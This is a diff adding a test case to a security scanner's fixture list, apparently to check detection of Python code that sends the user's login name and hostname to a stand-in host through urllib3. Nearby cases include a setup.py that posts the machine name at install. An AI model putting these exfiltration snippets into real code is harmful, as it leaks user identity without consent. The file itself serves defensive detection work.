@@ -49,6 +49,14 @@ CASES = [
      "conn.request('GET', '/c?' + urlencode({'u': getpass.getuser()}))\n"
      "conn.request('POST', '/h', body=socket.gethostname())\n",
      {4: "high", 5: "medium"}),
+    ("login-name-in-urllib3-get-fields-or-url-high", HOST, "pkg/util.py",
+     "import getpass, socket, urllib3\n"
+     "http = urllib3.PoolManager()\n"
+     "http.request('GET', 'https://t.example.net/i', fields={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
+     "http.request('POST', 'https://t.example.net/i', fields={'u': getpass.getuser()})\n"
+     "http.request('GET', 'https://t.example.net/i/' + getpass.getuser())\n"
+     "http.request('GET', 'https://t.example.net/i', fields={'h': socket.gethostname()})\n",
+     {3: "high", 4: "medium", 5: "high", 6: "medium"}),
     ("setup-py-sends-identity-high", HOST, "pkg/setup.py",
      "import platform, requests\n"
      "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
